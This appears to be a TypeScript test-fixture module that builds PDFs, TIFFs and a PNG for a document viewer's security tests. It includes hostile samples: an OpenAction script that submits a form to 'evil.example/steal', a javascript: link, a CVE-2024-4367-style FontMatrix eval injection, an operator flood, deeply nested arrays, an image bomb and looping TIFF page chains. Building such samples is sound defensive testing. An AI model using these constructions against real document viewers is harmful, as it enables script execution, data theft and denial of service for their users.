/**
 * The documents the viewer tests open, made in Node at test time: real PDFs from
 * pdf-lib (including hostile ones), TIFFs and a PNG written byte by byte, and a DOCX
 * from the converter tests' fixture. All text is synthetic.
 */
import { crc32, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFNumber, PDFString, StandardFonts, rgb, type PDFArray, type PDFPage } from 'pdf-lib';

// ---------------------------------------------------------------------------------------
// PDF

/** Three pages of letter text; only page 2 says "Zanzibar". */
export async function letterPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const bold = await doc.embedFont(StandardFonts.HelveticaBold);
  const bodies = [
    ['Referral to cardiology', 'Dear colleague, thank you for seeing this synthetic patient.', 'Chest pain on exertion for three months.'],
    ['History', 'Travelled recently to Zanzibar for a family wedding.', 'No previous cardiac history.'],
    ['Plan', 'Please assess and advise on further investigation.', 'Yours sincerely, Dr Example'],
  ];
  bodies.forEach((lines, index) => {
    const page = doc.addPage([595, 842]);
    page.drawRectangle({ x: 40, y: 770, width: 515, height: 40, color: rgb(0, 0.37, 0.72) });
    page.drawText(`${lines[0]} (page ${index + 1})`, { x: 56, y: 782, size: 20, font: bold, color: rgb(1, 1, 1) });
    lines.slice(1).forEach((line, lineIndex) => page.drawText(line, { x: 56, y: 700 - lineIndex * 28, size: 14, font }));
    // A different mark on each page, so each page draws different pixels.
    page.drawRectangle({ x: 56 + index * 150, y: 400, width: 120, height: 120, color: rgb(0.8, 0.1 * index, 0.2) });
  });
  return doc.save();
}

function addLink(doc: PDFDocument, page: PDFPage, rect: [number, number, number, number], uri: string): void {
  const annotation = doc.context.register(
    doc.context.obj({
      Type: 'Annot',
      Subtype: 'Link',
      Rect: rect,
      Border: [0, 0, 0],
      A: { Type: 'Action', S: 'URI', URI: PDFString.of(uri) },
    }),
  );
  const annots = page.node.Annots() ?? doc.context.obj([]);
  (annots as PDFArray).push(annotation);
  page.node.set(PDFName.of('Annots'), annots);
}

/**
 * A PDF that tries to run JavaScript when opened (an /OpenAction and a page-open action),
 * with one ordinary web link and one javascript: link.
 */
export async function scriptedPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([595, 842]);
  page.drawText('This letter carries JavaScript that must never run.', { x: 56, y: 760, size: 16, font });
  page.drawText('Results portal', { x: 56, y: 700, size: 16, font, color: rgb(0, 0.37, 0.72) });
  page.drawText('Run this', { x: 56, y: 640, size: 16, font, color: rgb(0.8, 0, 0) });
  const script = 'window.pwned = "open-action"; app.alert("pwned"); this.submitForm("https://evil.example/steal");';
  doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(script) }));
  page.node.set(
    PDFName.of('AA'),
    doc.context.obj({ O: { Type: 'Action', S: 'JavaScript', JS: PDFString.of('window.pwned = "page-open";') } }),
  );
  addLink(doc, page, [50, 690, 200, 716], 'https://example.org/results');
  addLink(doc, page, [50, 630, 200, 656], 'javascript:window.pwned="link"');
  return doc.save();
}

/**
 * The CVE-2024-4367 class: a font whose /FontMatrix holds a string crafted to break out
 * of code that old pdf.js versions compiled with eval, drawn in a text mode that makes
 * pdf.js build glyph outlines (where the matrix was used).
 */
export async function fontMatrixInjectionPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([595, 842]);
  const payload = PDFString.of('0); window.pwned = "font-matrix"; (0');
  const font = doc.context.register(
    doc.context.obj({
      Type: 'Font',
      Subtype: 'Type1',
      BaseFont: 'Helvetica',
      FontMatrix: doc.context.obj([PDFNumber.of(0.001), PDFNumber.of(0), PDFNumber.of(0), PDFNumber.of(0.001), PDFNumber.of(0), payload]),
    }),
  );
  page.node.normalize();
  page.node.setFontDictionary(PDFName.of('FX'), font);
  const content = doc.context.flateStream(
    [
      '0 0.37 0.72 rg 56 700 480 60 re f',
      'BT /FX 28 Tf 7 Tr 60 600 Td (Injected outline text) Tj ET',
      'BT /FX 28 Tf 0 Tr 60 540 Td (Injected fill text) Tj ET',
    ].join('\n'),
  );
  page.node.addContentStream(doc.context.register(content));
  return doc.save();
}

/** A page whose content is `content` (Latin-1), Flate-compressed by zlib, with Helvetica as /F1. */
async function pdfWithContent(content: Buffer, extra?: (doc: PDFDocument, page: PDFPage) => void): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([595, 842]);
  page.node.normalize();
  page.node.setFontDictionary(PDFName.of('F1'), font.ref);
  extra?.(doc, page);
  const stream = doc.context.stream(deflateSync(content), { Filter: 'FlateDecode' });
  page.node.addContentStream(doc.context.register(stream));
  return doc.save();
}

/**
 * A flood of drawing operators: text, then `count` tiny filled rectangles, in a 100 KB file
 * (it inflates to about 20 bytes a rectangle). Unbounded, pdf.js is busy with it for a long time.
 */
export function operatorFloodPdf(count = 4_000_000): Promise<Uint8Array> {
  const head = Buffer.from('BT /F1 24 Tf 72 760 Td (Operator flood) Tj ET\n0 0 0 rg\n', 'latin1');
  const one = Buffer.from('1 1 0.5 0.5 re f\n', 'latin1');
  const body = Buffer.alloc(one.length * count);
  for (let at = 0; at < body.length; at += one.length) one.copy(body, at);
  return pdfWithContent(Buffer.concat([head, body]));
}

/**
 * Text, then an array nested `depth` deep (pdf.js's parser recurses into each level), then
 * more text. pdf.js used to give up on the page quietly and draw what came before.
 */
export function nestedArraysPdf(depth = 200_000): Promise<Uint8Array> {
  return pdfWithContent(
    Buffer.concat([
      Buffer.from('BT /F1 24 Tf 72 760 Td (Before the arrays) Tj ET\n', 'latin1'),
      Buffer.from('['.repeat(depth) + ']'.repeat(depth) + ' pop\n', 'latin1'),
      Buffer.from('BT /F1 24 Tf 72 700 Td (After the arrays) Tj ET\n', 'latin1'),
    ]),
  );
}

/**
 * A compressed image bomb: a `side` x `side` RGB picture of zeros (147 MB decoded at 7000,
 * and 196 MB more as pixels) in a Flate stream of about 150 KB, drawn over the page.
 */
export function imageBombPdf(side = 7_000): Promise<Uint8Array> {
  return pdfWithContent(
    Buffer.from('BT /F1 24 Tf 72 760 Td (Picture follows) Tj ET\nq 400 0 0 400 100 200 cm /Im1 Do Q\n', 'latin1'),
    (doc, page) => {
      const pixels = deflateSync(Buffer.alloc(side * side * 3), { level: 9 });
      const image = doc.context.register(
        doc.context.stream(pixels, {
          Type: 'XObject',
          Subtype: 'Image',
          Width: side,
          Height: side,
          ColorSpace: 'DeviceRGB',
          BitsPerComponent: 8,
          Filter: 'FlateDecode',
        }),
      );
      page.node.setXObject(PDFName.of('Im1'), image);
    },
  );
}

/** Starts like a PDF, then is nothing but noise. */
export function corruptPdf(): Uint8Array {
  const noise = new Uint8Array(4096);
  let seed = 12345;
  for (let index = 0; index < noise.length; index += 1) {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    noise[index] = seed & 0xff;
  }
  const header = new TextEncoder().encode('%PDF-1.7\n');
  const bytes = new Uint8Array(header.length + noise.length);
  bytes.set(header);
  bytes.set(noise, header.length);
  return bytes;
}

// ---------------------------------------------------------------------------------------
// TIFF: little-endian, 8-bit greyscale, one strip per page

export interface TiffPageSpec {
  width: number;
  height: number;
  /** Draws the page: returns the grey level (0 black, 255 white) at x, y. */
  pixel?: (x: number, y: number) => number;
}

export interface TiffOptions {
  /** Point the last page's "next" at this page, making the chain loop. */
  loopBackTo?: number;
  /** 'deflate' compresses each strip with zlib (compression 8). */
  compression?: 'none' | 'deflate';
  /** Replaces every strip's bytes (with its compression tag kept): for hostile strips. */
  stripOverride?: { compression: number; data: Uint8Array };
}

export function tiff(pages: TiffPageSpec[], options: TiffOptions = {}): Uint8Array {
  const ENTRIES = 9;
  const ifdSize = 2 + ENTRIES * 12 + 4;
  const layout: { ifd: number; strip: number; spec: TiffPageSpec; data: Uint8Array }[] = [];
  let offset = 8;
  for (const spec of pages) {
    const ifd = offset;
    const strip = ifd + ifdSize;
    let data: Uint8Array = new Uint8Array(spec.pixel ? spec.width * spec.height : 0);
    if (spec.pixel) {
      for (let y = 0; y < spec.height; y += 1) {
        for (let x = 0; x < spec.width; x += 1) data[y * spec.width + x] = spec.pixel(x, y);
      }
    }
    if (options.compression === 'deflate') data = new Uint8Array(deflateSync(data));
    if (options.stripOverride) data = options.stripOverride.data;
    layout.push({ ifd, strip, spec, data });
    offset = strip + data.length + (data.length % 2);
  }
  const compression = options.stripOverride?.compression ?? (options.compression === 'deflate' ? 8 : 1);
  const bytes = new Uint8Array(offset);
  const view = new DataView(bytes.buffer);
  bytes.set([0x49, 0x49, 42, 0]);
  view.setUint32(4, layout[0]?.ifd ?? 0, true);
  layout.forEach(({ ifd, strip, spec, data }, index) => {
    const entries: [number, number, number][] = [
      [256, 4, spec.width],
      [257, 4, spec.height],
      [258, 3, 8],
      [259, 3, compression],
      [262, 3, 1],
      [273, 4, strip],
      [277, 3, 1],
      [278, 4, spec.height],
      [279, 4, data.length || spec.width * spec.height],
    ];
    view.setUint16(ifd, entries.length, true);
    entries.forEach(([tag, type, value], entry) => {
      const at = ifd + 2 + entry * 12;
      view.setUint16(at, tag, true);
      view.setUint16(at + 2, type, true);
      view.setUint32(at + 4, 1, true);
      if (type === 3) view.setUint16(at + 8, value, true);
      else view.setUint32(at + 8, value, true);
    });
    const last = index === layout.length - 1;
    const next = last ? (options.loopBackTo === undefined ? 0 : (layout[options.loopBackTo]?.ifd ?? 0)) : (layout[index + 1]?.ifd ?? 0);
    view.setUint32(ifd + 2 + entries.length * 12, next, true);
    bytes.set(data, strip);
  });
  return bytes;
}

/** A scanned letter: white, a dark header band, and a block whose place shows the page number. */
export function scanPage(pageNumber: number): TiffPageSpec {
  return {
    width: 420,
    height: 594,
    pixel: (x, y) => {
      if (y > 30 && y < 70 && x > 30 && x < 390) return 40;
      const blockX = 40 + (pageNumber - 1) * 120;
      if (y > 200 && y < 300 && x > blockX && x < blockX + 90) return 0;
      if (y > 120 && y < 130 && x > 30 && x < 300) return 90;
      return 255;
    },
  };
}

// ---------------------------------------------------------------------------------------
// PNG: RGB, 8 bits, no filter

function chunk(type: string, data: Uint8Array): Uint8Array {
  const out = new Uint8Array(12 + data.length);
  const view = new DataView(out.buffer);
  view.setUint32(0, data.length);
  out.set(new TextEncoder().encode(type), 4);
  out.set(data, 8);
  view.setUint32(8 + data.length, crc32(out.subarray(4, 8 + data.length)));
  return out;
}

export function png(width: number, height: number, pixel: (x: number, y: number) => [number, number, number]): Uint8Array {
  const header = new Uint8Array(13);
  const view = new DataView(header.buffer);
  view.setUint32(0, width);
  view.setUint32(4, height);
  header.set([8, 2, 0, 0, 0], 8);
  const raw = new Uint8Array((width * 3 + 1) * height);
  for (let y = 0; y < height; y += 1) {
    const row = y * (width * 3 + 1);
    for (let x = 0; x < width; x += 1) raw.set(pixel(x, y), row + 1 + x * 3);
  }
  const parts = [
    new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(raw)),
    chunk('IEND', new Uint8Array(0)),
  ];
  const total = parts.reduce((sum, part) => sum + part.length, 0);
  const out = new Uint8Array(total);
  let at = 0;
  for (const part of parts) {
    out.set(part, at);
    at += part.length;
  }
  return out;
}
